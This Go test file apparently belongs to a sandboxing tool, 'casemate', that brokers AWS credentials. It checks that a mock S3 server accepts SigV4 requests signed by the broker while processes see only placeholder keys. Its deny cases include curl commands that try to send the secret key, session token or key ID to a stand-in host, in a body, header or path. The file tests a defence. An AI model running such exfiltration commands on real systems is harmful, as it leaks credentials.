package test

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
)

// What a stand-in for S3 knows of its one customer.
const (
	awsID     = "ASIA3CUSTOMER4CASEMA"
	awsSecret = "tEsTs/OnLy+0123456789/abcdefghijKLMNOPQR"
	awsToken  = "IQoJb3JpZ2luX2VjEOnlyForTests//////////wEaDGV1LWNlbnRyYWwtMSJHMEUCIQD=="
)

// serveS3 answers what is signed with the customer's secret, and nothing else. It is written from AWS's description, apart from the gate's own code.
func serveS3(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	fmt.Println("s3 was asked", r.Method, r.RequestURI, r.Header)
	fields := map[string]string{}
	for _, part := range strings.Split(strings.TrimPrefix(r.Header.Get("Authorization"), "AWS4-HMAC-SHA256 "), ",") {
		name, value, _ := strings.Cut(strings.TrimSpace(part), "=")
		fields[name] = value
	}
	sum := func(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }
	payload := r.Header.Get("X-Amz-Content-Sha256")
	if payload == "" {
		payload = sum(body)
	}
	text := r.Method + "\n" + r.URL.EscapedPath() + "\n" + strings.ReplaceAll(r.URL.Query().Encode(), "+", "%20") + "\n"
	for _, name := range strings.Split(fields["SignedHeaders"], ";") {
		value := strings.Join(r.Header.Values(name), ",")
		if name == "host" {
			value = r.Host
		}
		text += name + ":" + value + "\n"
	}
	text += "\n" + fields["SignedHeaders"] + "\n" + payload
	id, scope, _ := strings.Cut(fields["Credential"], "/")
	key := []byte("AWS4" + awsSecret)
	for _, part := range append(strings.Split(scope, "/"), "AWS4-HMAC-SHA256\n"+r.Header.Get("X-Amz-Date")+"\n"+scope+"\n"+sum([]byte(text))) {
		mac := hmac.New(sha256.New, key)
		mac.Write([]byte(part))
		key = mac.Sum(nil)
	}
	signed := hex.EncodeToString(key) == fields["Signature"] && id == awsID && strings.Contains(fields["SignedHeaders"], "x-amz-security-token") && r.Header.Get("X-Amz-Security-Token") == awsToken
	if !signed || len(payload) == 64 && payload != sum(body) {
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprintf(w, "SignatureDoesNotMatch %s", id)
		return
	}
	fmt.Printf("s3 answered %s %s %.100q\n", r.Method, r.RequestURI, body)
	fmt.Fprintf(w, "for %s with %s: %s", id, r.Header.Get("X-Amz-Security-Token"), r.URL.Path)
}

const s3Policy = `secrets:
  aws: {env: AWS_ACCESS_KEY_ID, place: sigv4, hosts: [s3.allowed.example]}
network:
  allow: [{host: s3.allowed.example}, {host: other.allowed.example, methods: [GET, POST]}]
`

// TestSignedForAWS: curl signs with what is in its variables; the host is given the signature of the credential that never was inside.
func TestSignedForAWS(t *testing.T) {
	gated(t, func(t *testing.T, s *site) {
		needs(t, "curl")
		const curl = `curl -sS -m 20 --aws-sigv4 aws:amz:eu-central-1:s3 -u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" -H "X-Amz-Security-Token: $AWS_SESSION_TOKEN" `
		const at = "https://s3.allowed.example/bucket/a%20b"
		real := "AWS_ACCESS_KEY_ID=" + awsID + " AWS_SECRET_ACCESS_KEY=" + awsSecret + " AWS_SESSION_TOKEN=" + awsToken + "\n"
		// The controls: with the credential itself the host answers, and without the broker it takes no other.
		if out := s.outside(real + curl + at); !strings.HasPrefix(out.stdout, "for "+awsID) {
			t.Fatalf("control: %v, %q", out, s.world.told("s3 "))
		}
		out := s.run("--allow", "s3.allowed.example", "--", "sh", "-c", strings.ReplaceAll(real, awsSecret, "another")+curl+"-k "+at)
		if out.stdout != "SignatureDoesNotMatch "+awsID {
			t.Fatalf("control: %v", out)
		}

		b := &brokered{s, awsSecret}
		b.secret(`{"Version": 1, "AccessKeyId": "`+awsID+`",
			"SecretAccessKey": "`+awsSecret+`", "SessionToken": "`+awsToken+`", "Expiration": "2099-01-01T00:00:00+00:00"}`, "set", "aws", "--host", "s3.allowed.example")
		b.approve(s3Policy)
		k := s.talk("--name", "signing")
		inside := strings.Fields(k.ask("echo $AWS_ACCESS_KEY_ID $AWS_SECRET_ACCESS_KEY $AWS_SESSION_TOKEN"))
		if len(inside) != 3 || len(inside[0]) != len(awsID) || !strings.HasPrefix(inside[0], "ASIA") || len(inside[1]) != len(awsSecret) || len(inside[2]) != len(awsToken) {
			t.Fatalf("inside: %q", inside)
		}
		for name, line := range map[string]string{
			"GET": curl + at, "a query": curl + `"` + at + `?list-type=2&prefix=a%2Fb"`, "PUT": curl + "-X PUT -d text " + at, "HTTP/1.1": curl + "--http1.1 " + at,
			"another service": strings.Replace(curl, ":s3", ":sqs", 1) + "-d Action=ListQueues https://s3.allowed.example/queue",
		} {
			if got := k.ask(line); !strings.HasPrefix(got, "for "+inside[0]+" with "+inside[2]) {
				t.Errorf("%s: %q; %q", name, got, s.world.told("s3 "))
			}
		}
		asked := len(s.world.told("s3 was asked"))
		for name, line := range map[string]string{
			"another key":  strings.Replace(curl, ":$AWS_SECRET_ACCESS_KEY", ":another", 1) + at,
			"another host": curl + "https://other.allowed.example/told", "the key in a body": `curl -sS -d "$AWS_SECRET_ACCESS_KEY" https://other.allowed.example/told`,
			"the token in a field": `curl -sS -H "X-Note: $AWS_SESSION_TOKEN" ` + at, "the id in the path": `curl -sS https://other.allowed.example/$AWS_ACCESS_KEY_ID`,
		} {
			if got := k.ask(line); !strings.Contains(got, "denied by casemate") {
				t.Errorf("%s: %q", name, got)
			}
		}
		if now := len(s.world.told("s3 was asked")); now != asked || s.world.wasTold(inside[0]) || s.world.wasTold(inside[1]) {
			t.Errorf("a host was asked what is denied: %q", s.world.told(""))
		}
		b.notInProcesses(k.cmd.Process.Pid, inside[1])
		words := k.end()
		events := s.events(t)
		for _, want := range []string{`"kind":"alarm","subject":"secret:aws"`, "was not signed with the placeholder", "other.allowed.example:443: the placeholder of the secret"} {
			has(t, "events", events, want)
		}
		for what, text := range map[string]string{"what is said": words, "events": events, "casemate net": s.do("net", "--json").stdout} {
			for _, secret := range append(inside, awsID, awsSecret, awsToken) {
				if strings.Contains(text, secret) {
					t.Errorf("%s: %s", what, text)
				}
			}
		}
		b.notInFiles(s.State, s.Work, s.Home)
	})
}
